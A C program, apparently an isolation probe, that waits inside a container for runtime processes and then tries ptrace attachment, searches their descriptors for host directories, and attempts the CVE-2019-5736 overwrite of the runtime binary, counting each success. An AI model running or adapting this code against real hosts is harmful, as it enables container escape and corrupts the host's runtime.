// Lies in wait inside a container for processes of the runtime: a process whose program is none of
// the container's own. Tries to trace it, to list its descriptors and to write its program.
//   watch OWN-PROGRAM...
// SIGTERM ends it; it then prints "seen N traced N listed N written N directories N".
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static volatile sig_atomic_t ended;
static struct stat own[16];
static int own_count;
static long seen, traced, listed, written, directories;

static void on_term(int number) { (void)number; ended = 1; }

static int is_own(const struct stat* status) {
  for (int i = 0; i < own_count; ++i)
    if (own[i].st_dev == status->st_dev && own[i].st_ino == status->st_ino) return 1;
  return 0;
}

// 1: a program that is not the container's; 0: one that is; -1: the kernel does not say.
static int is_foreign(const char* pid) {
  char path[300];
  struct stat status;
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  return stat(path, &status) < 0 ? -1 : !is_own(&status);
}

// Holds the program and writes to it as soon as nobody runs it (CVE-2019-5736).
static void try_write(const char* pid) {
  char path[300];
  snprintf(path, sizeof path, "/proc/%s/exe", pid);
  const int held = open(path, O_PATH | O_CLOEXEC);
  if (held < 0) return;
  struct stat status;
  if (fstat(held, &status) == 0 && !is_own(&status)) {
    snprintf(path, sizeof path, "/proc/self/fd/%d", held);
    for (int tries = 0; tries < 2000; ++tries) {
      const int writer = open(path, O_WRONLY | O_CLOEXEC);
      if (writer < 0 && errno == ETXTBSY) continue;
      if (writer >= 0 && write(writer, "overwritten", 11) > 0) ++written;
      if (writer >= 0) close(writer);
      break;
    }
  }
  close(held);
}

// What its descriptors are: a directory of the host among them would be the way out.
static void try_list(const char* pid) {
  char path[300], name[600];
  snprintf(path, sizeof path, "/proc/%s/fd", pid);
  DIR* open_files = opendir(path);
  if (open_files == NULL) return;
  int count = 0, folders = 0;
  for (struct dirent* entry; (entry = readdir(open_files)) != NULL;) {
    struct stat status;
    if (!isdigit((unsigned char)entry->d_name[0])) continue;
    ++count;
    snprintf(name, sizeof name, "%s/%s", path, entry->d_name);
    if (stat(name, &status) == 0 && S_ISDIR(status.st_mode)) ++folders;
  }
  closedir(open_files);
  if (count == 0 || is_foreign(pid) != 1) return;  // it may have exec'd meanwhile
  ++listed;
  directories += folders;
}

static void try_trace(const char* pid) {
  const pid_t number = atoi(pid);
  if (ptrace(PTRACE_ATTACH, number, 0, 0) < 0) return;
  int status;
  waitpid(number, &status, __WALL);
  if (is_foreign(pid) == 1) ++traced;
  ptrace(PTRACE_DETACH, number, 0, 0);
  kill(number, SIGCONT);  // the stop of the attachment may still be to come
}

static void look(void) {
  DIR* processes = opendir("/proc");
  for (struct dirent* entry; processes != NULL && (entry = readdir(processes)) != NULL;) {
    const char* pid = entry->d_name;
    if (!isdigit((unsigned char)pid[0]) || atoi(pid) == getpid() || atoi(pid) == 1) continue;
    if (is_foreign(pid) == 0) continue;
    ++seen;
    try_list(pid);
    try_trace(pid);
    try_write(pid);
  }
  if (processes != NULL) closedir(processes);
}

int main(int argc, char** argv) {
  signal(SIGTERM, on_term);
  for (int i = 1; i < argc && own_count < 15; ++i)
    if (stat(argv[i], &own[own_count]) == 0) ++own_count;
  if (stat("/proc/self/exe", &own[own_count]) == 0) ++own_count;
  while (!ended) {
    look();
    while (waitpid(-1, NULL, WNOHANG) > 0) {}
  }
  printf("seen %ld traced %ld listed %ld written %ld directories %ld\n", seen, traced, listed, written, directories);
  fflush(stdout);
}
